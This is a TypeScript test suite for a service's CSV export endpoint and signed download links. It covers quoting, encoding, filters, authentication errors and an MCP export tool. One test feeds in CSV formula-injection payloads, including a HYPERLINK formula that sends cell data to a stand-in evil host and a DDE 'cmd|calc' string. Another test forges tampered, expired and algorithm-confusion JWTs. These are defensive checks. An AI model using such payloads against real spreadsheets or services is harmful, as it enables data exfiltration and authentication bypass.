import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { parse } from 'csv-parse/sync';
import { SignJWT } from 'jose';
import { call, connect } from './mcp/mcp-support.ts';
import { DIALECTS } from './support/databases.ts';
import { startTestService, type TestService } from './support/test-service.ts';

/** Values a CSV writer must quote or keep: commas, quotes, line breaks, accents, emoji, empty. */
const CSV = [
  'Name,Notes,Employees',
  '"Acme, Inc.","He said ""hi""",120',
  'Globex,"two',
  'lines",40000',
  'Crème Brûlée SARL,🍮 desserts,',
  'Initech,,60',
].join('\n');

/** CSV export (docs/enrichment.md): GET …/export.csv streams the rows as GET rows would list them; export_project makes a signed link. */
describe.each(DIALECTS)('CSV export on %s', (dialect) => {
  let t: TestService;
  let projectId: string;
  let cols: Record<string, string>;

  beforeAll(async () => {
    t = await startTestService(dialect, { MCP_PORT: '0' });
    const made = await t.api('POST', '/projects', {
      body: { builder_id: 'csv_import_builder', form_data: { csv_text: CSV }, name: 'Export / test' },
    });
    projectId = made.body.project_id;
    await t.api('GET', `/projects/${projectId}/wait?wait_seconds=20`);
    // A tool column whose values are arrays: exported as the table shows them.
    await t.api('POST', `/projects/${projectId}/columns`, {
      body: { name: 'Tags', tool_id: 'formula', config: { expression: '[$lowercase($substring(Name, 0, 3)), "x"]' } },
    });
    await t.api('POST', `/projects/${projectId}/columns/run`, { body: {} });
    await t.api('GET', `/projects/${projectId}/wait?wait_seconds=20`);
    cols = Object.fromEntries((await t.api('GET', `/projects/${projectId}/columns`)).body.map((c: any) => [c.name, c.col_id]));
  });
  afterAll(() => t.stop());

  const download = (query = '', headers: Record<string, string> = { 'service-api-key': t.key }) =>
    fetch(`${t.url}/projects/${projectId}/export.csv${query}`, { headers });
  const enc = (v: unknown) => encodeURIComponent(JSON.stringify(v));

  test('every row as the table shows it: a header, quoted fields, line breaks kept, UTF-8, CRLF', async () => {
    const r = await download();
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toBe('attachment; filename="Export _ test.csv"');
    const raw = new Uint8Array(await r.clone().arrayBuffer());
    expect(raw[0]).toBe('N'.charCodeAt(0)); // no byte order mark unless asked
    const text = await r.text();
    expect(text.split('\r\n')[0]).toBe('Name,Notes,Employees,Tags');
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records).toEqual([
      { Name: 'Acme, Inc.', Notes: 'He said "hi"', Employees: '120', Tags: 'acm, x' },
      { Name: 'Globex', Notes: 'two\nlines', Employees: '40000', Tags: 'glo, x' },
      { Name: 'Crème Brûlée SARL', Notes: '🍮 desserts', Employees: '', Tags: 'crè, x' },
      { Name: 'Initech', Notes: '', Employees: '60', Tags: 'ini, x' },
    ]);
  });

  test('the filter, sort and columns of GET rows; a byte order mark when asked', async () => {
    const filter = [{ type: 'and', rules: [{ col_id: cols.Employees, operator: 'gt', value: 50 }] }];
    const sort = [{ col_id: cols.Employees, direction: 'desc', sort_as_number: true }];
    const r = await download(`?filter_groups=${enc(filter)}&sort_rules=${enc(sort)}&columns=${enc(['Name', 'Employees'])}&bom=1`);
    const bytes = new Uint8Array(await r.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes); // the decoder drops the mark
    expect(parse(text, { columns: true })).toEqual([
      { Name: 'Globex', Employees: '40000' },
      { Name: 'Acme, Inc.', Employees: '120' },
      { Name: 'Initech', Employees: '60' },
    ]);
    // The same rows as GET rows answers for the same query.
    const listed = await t.api('GET', `/projects/${projectId}/rows?filter_groups=${enc(filter)}&sort_rules=${enc(sort)}`);
    expect(listed.body.rows.map((row: any) => row.company.Name.value)).toEqual(['Globex', 'Acme, Inc.', 'Initech']);
  });

  test('text a spreadsheet would run as a formula opens as text; numbers stay numbers; escape_formulas=0 keeps it as is', async () => {
    const made = await t.api('POST', '/projects', {
      body: { builder_id: 'manual_list_builder', form_data: { companies: 'placeholder' } },
    });
    const id = made.body.project_id;
    await t.api('GET', `/projects/${id}/wait?wait_seconds=20`);
    const columns = (await t.api('GET', `/projects/${id}/columns`)).body.map((c: any) => c.name);
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|calc', '@SUM(A1)', '-2+3', '-12.5', '+33 4 72 00 00 00'];
    await t.api('POST', `/projects/${id}/rows/batch`, {
      body: { rows: hostile.map((v) => Object.fromEntries(columns.map((c: string, i: number) => [c, i === 0 ? v : null]))) },
    });
    const get = async (q = '') =>
      (
        parse(await (await fetch(`${t.url}/projects/${id}/export.csv${q}`, { headers: { 'service-api-key': t.key } })).text(), {
          columns: true,
        }) as any[]
      )
        .map((r) => r[columns[0]])
        .slice(1);
    expect(await get()).toEqual([`'${hostile[0]}`, `'${hostile[1]}`, `'${hostile[2]}`, `'${hostile[3]}`, '-12.5', `'${hostile[5]}`]);
    expect(await get('?escape_formulas=0')).toEqual(hostile);
  });

  test('bad input is a JSON error and no file: malformed or unknown filter (422), no key (401), another workspace (404)', async () => {
    const malformed = await download('?filter_groups=%5Bnot-json');
    expect(malformed.status).toBe(422);
    expect((await malformed.json()).detail.message).toContain('filter_groups');
    const unknown = await download(`?columns=${enc(['Nope'])}`);
    expect(unknown.status).toBe(422);
    expect((await download('', {})).status).toBe(401);
    const other = await t.newWorkspace();
    expect((await download('', { 'service-api-key': other.key })).status).toBe(404);
  });

  test('export_project answers a link that downloads without a key, for 15 minutes, only that export', async () => {
    const made = await t.api('POST', `/projects/${projectId}/exports`, {
      body: { columns: ['Name'], sort_rules: [{ col_id: cols.Name, direction: 'asc' }] },
    });
    expect(made.status).toBe(201);
    const expires = Date.parse(made.body.expires_at) - Date.now();
    expect(expires).toBeGreaterThan(14 * 60_000);
    expect(expires).toBeLessThanOrEqual(15 * 60_000);
    const r = await fetch(made.body.url);
    expect(r.status).toBe(200);
    expect(parse(await r.text(), { columns: true })).toEqual([
      { Name: 'Acme, Inc.' },
      { Name: 'Crème Brûlée SARL' },
      { Name: 'Globex' },
      { Name: 'Initech' },
    ]);
    // The link's query wins over anything added to it.
    const widened = await fetch(`${made.body.url}&columns=${enc(['Name', 'Notes'])}`);
    expect((await widened.text()).split('\r\n')[0]).toBe('Name');

    // Tampered, for another project, or expired: 401.
    const token = new URL(made.body.url).searchParams.get('token') as string;
    const tampered = `${token.slice(0, -4)}${token.endsWith('AAAA') ? 'BBBB' : 'AAAA'}`;
    expect((await fetch(made.body.url.replace(token, tampered))).status).toBe(401);
    const other = await t.api('POST', '/projects', { body: { builder_id: 'manual_list_builder', form_data: { companies: 'X' } } });
    expect((await fetch(made.body.url.replace(projectId, other.body.project_id))).status).toBe(401);
    const { kid, alg, key } = await t.service.kernel.oauth.keys.current();
    const stale = await new SignJWT({ wid: t.workspaceId, pid: projectId, q: {} })
      .setProtectedHeader({ alg, kid, typ: 'export+jwt' })
      .setAudience('project-export')
      .setIssuedAt(Math.floor(Date.now() / 1000) - 3600)
      .setExpirationTime(Math.floor(Date.now() / 1000) - 60)
      .sign(key);
    const expired = await fetch(made.body.url.replace(token, stale));
    expect(expired.status).toBe(401);
    expect((await expired.json()).detail.message).toContain('expired');
    // Algorithm confusion: HS256 keyed with the public key the service publishes is a 401, not a 500.
    const jwk = (await (await fetch(`${new URL(t.url).origin}/oauth/jwks.json`)).json()).keys[0];
    const confused = await new SignJWT({ wid: t.workspaceId, pid: projectId, q: {} })
      .setProtectedHeader({ alg: 'HS256', kid, typ: 'export+jwt' })
      .setAudience('project-export')
      .setIssuedAt()
      .setExpirationTime('10m')
      .sign(new TextEncoder().encode(JSON.stringify(jwk)));
    const forged = await fetch(made.body.url.replace(token, confused));
    expect(forged.status).toBe(401);
    expect((await forged.json()).detail.message).toBe('Invalid download link');

    // A bad filter is refused when the link is asked for, not when it is used.
    const bad = await t.api('POST', `/projects/${projectId}/exports`, { body: { columns: ['Nope'] } });
    expect(bad.status).toBe(422);
  });

  test('MCP export_project: the agent gets a link it can hand on', async () => {
    const client = await connect(t.service.mcpUrl as string, { 'service-api-key': t.key });
    try {
      const link = await call(client, 'export_project', { project_id: projectId, columns_json: '["Name","Employees"]' });
      expect(link.ok).toBe(true);
      const r = await fetch(link.data.url);
      expect(parse(await r.text(), { columns: true })).toHaveLength(4);
    } finally {
      await client.close();
    }
  });
});
